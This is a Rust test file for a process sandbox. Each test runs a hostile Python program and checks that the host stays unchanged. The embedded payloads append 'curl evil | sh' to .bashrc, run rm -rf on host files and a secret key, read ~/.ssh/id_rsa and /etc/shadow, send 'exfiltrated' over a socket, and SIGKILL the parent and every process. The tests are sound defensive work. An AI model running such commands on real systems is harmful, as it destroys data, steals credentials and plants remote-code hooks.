//! Hostile programs that try to reach outside the sandbox (files, network, other processes)
//! fail with the error the kernel gives them, and the host stays as it was.

mod common;

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

use common::{assert_failed, assert_raised, short, Host};
use spillover_sandbox::FailReason;

const NOT_THERE: &str = "FileNotFoundError";
const READ_ONLY: &str = "Read-only file system";

fn repo() -> String {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    repo.canonicalize().unwrap().display().to_string()
}

#[test]
fn writing_to_the_home_directory_stays_in_the_private_tmp() {
    let host = Host::new("home");
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let body = format!(
        "\
import os
home = os.path.expanduser('~')
open(os.path.join(home, 'note.txt'), 'w').write('private')
print('sandbox home', home, os.listdir(home), flush=True)
try:
    open('{fake}/.bashrc', 'a').write('curl evil | sh')
except OSError as e:
    print('fake home:', type(e).__name__, flush=True)
open('{home}/{m}', 'w').write('pwned')
",
        fake = host.fake_home.display(),
        m = host.marker
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[NOT_THERE, READ_ONLY, "PermissionError"]);
    assert!(
        outcome.stdout.contains("sandbox home /tmp ['note.txt']"),
        "{outcome:#?}"
    );
    assert!(
        outcome.stdout.contains("fake home: FileNotFoundError"),
        "{outcome:#?}"
    );
    host.assert_unchanged(&outcome);
}

#[test]
fn writing_to_the_host_tmp_reaches_only_the_private_tmp() {
    let host = Host::new("tmp");
    let body = format!(
        "\
open('/tmp/{m}', 'w').write('stays inside')
print('private tmp ok', flush=True)
open('{canary}', 'w').write('overwritten')
",
        m = host.marker,
        canary = host.canary.display()
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[NOT_THERE]);
    assert!(outcome.stdout.contains("private tmp ok"), "{outcome:#?}");
    host.assert_unchanged(&outcome);
}

#[test]
fn writing_to_usr_and_the_root_is_refused() {
    let host = Host::new("usr");
    let body = format!(
        "\
for path in ['/{m}', '/sandbox/main.py']:
    try:
        open(path, 'w').write('pwned')
    except OSError as e:
        print(path, type(e).__name__, e.strerror, flush=True)
open('/usr/{m}', 'w').write('pwned')
",
        m = host.marker
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[READ_ONLY]);
    assert_eq!(outcome.stdout.matches(READ_ONLY).count(), 2, "{outcome:#?}");
    host.assert_unchanged(&outcome);
}

#[test]
fn writing_to_the_repository_is_impossible() {
    let host = Host::new("repo");
    let body = format!("open('{}/{}', 'w').write('pwned')\n", repo(), host.marker);
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[NOT_THERE]);
    host.assert_unchanged(&outcome);
}

#[test]
fn deleting_host_files_finds_nothing_to_delete() {
    let host = Host::new("rmrf");
    let body = format!(
        "\
import shutil, subprocess
r = subprocess.run(['rm', '-rf', '{dir}', '{key}'])
print('rm exit', r.returncode, flush=True)
shutil.rmtree('{dir}')
",
        dir = host.dir.path().display(),
        key = host.secret_key.display()
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[NOT_THERE]);
    assert!(host.canary.exists() && host.secret_key.exists());
    host.assert_unchanged(&outcome);
}

#[test]
fn reading_a_private_key_finds_nothing() {
    let host = Host::new("sshkey");
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let body = format!(
        "\
try:
    print(open('{home}/.ssh/id_rsa').read())
except OSError as e:
    print('real key:', type(e).__name__, flush=True)
print(open('{key}').read())
",
        key = host.secret_key.display()
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &[NOT_THERE]);
    assert!(
        outcome.stdout.contains("real key: FileNotFoundError"),
        "{outcome:#?}"
    );
    host.assert_unchanged(&outcome);
}

#[test]
fn etc_shadow_and_the_rest_of_the_host_are_not_there() {
    let host = Host::new("shadow");
    let body = "\
import os
print('root', sorted(os.listdir('/')), flush=True)
print('etc', sorted(os.listdir('/etc')) if os.path.isdir('/etc') else [], flush=True)
print(open('/etc/shadow').read())
";
    let outcome = short().run(&host.program(body));
    assert_raised(&outcome, &[NOT_THERE]);
    let line = |prefix: &str| {
        let l = outcome.stdout.lines().find(|l| l.starts_with(prefix));
        l.unwrap_or_else(|| panic!("no `{prefix}` line: {outcome:#?}"))
            .to_string()
    };
    let etc = line("etc ");
    assert!(etc == "etc ['ld.so.cache']" || etc == "etc []", "{etc}");
    let root = line("root ");
    for absent in [
        "'work'", "'home'", "'var'", "'opt'", "'mnt'", "'sys'", "'run'",
    ] {
        assert!(!root.contains(absent), "{absent} is visible: {root}");
    }
    host.assert_unchanged(&outcome);
}

#[test]
fn connecting_to_a_host_loopback_listener_never_arrives() {
    let host = Host::new("loopback");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let body = format!(
        "\
import socket
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'exfiltrated')
"
    );
    let outcome = short().run(&host.program(&body));
    assert_raised(&outcome, &["ConnectionRefusedError"]);
    let accepted = listener.accept();
    assert!(
        matches!(&accepted, Err(e) if e.kind() == ErrorKind::WouldBlock),
        "a connection reached the host: {accepted:?}"
    );
    host.assert_unchanged(&outcome);
}

#[test]
fn connecting_to_the_outside_is_unreachable() {
    let host = Host::new("outside");
    let body = "\
import socket
try:
    socket.getaddrinfo('pypi.org', 443)
except OSError as e:
    print('dns failed:', type(e).__name__, flush=True)
socket.create_connection(('1.1.1.1', 80), timeout=3).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
";
    let outcome = short().run(&host.program(body));
    assert_raised(&outcome, &["Network is unreachable"]);
    assert!(
        outcome.stdout.contains("dns failed: gaierror"),
        "{outcome:#?}"
    );
    host.assert_unchanged(&outcome);
}

#[test]
fn signalling_the_parent_and_everyone_harms_no_host_process() {
    let host = Host::new("signals");
    let mut bystander = Command::new("/usr/bin/sleep")
        .arg0(format!("{}-bystander", host.marker))
        .arg("600")
        .spawn()
        .unwrap();
    let body = format!(
        "\
import signal, sys
_os.kill(_os.getppid(), signal.SIGKILL)
_os.kill(-1, signal.SIGKILL)
try:
    _os.kill({pid}, signal.SIGKILL)
except ProcessLookupError:
    print('host pid invisible', flush=True)
print('survived', flush=True)
sys.exit(42)
",
        pid = bystander.id()
    );
    let outcome = short().run(&host.program(&body));
    let alive = bystander.try_wait().unwrap().is_none();
    bystander.kill().unwrap();
    bystander.wait().unwrap();
    assert!(alive, "the host process was killed");
    assert_failed(&outcome, FailReason::Exit(42));
    assert!(
        outcome.stdout.contains("host pid invisible"),
        "{outcome:#?}"
    );
    assert!(outcome.stdout.contains("survived"), "{outcome:#?}");
    host.assert_unchanged(&outcome);
}
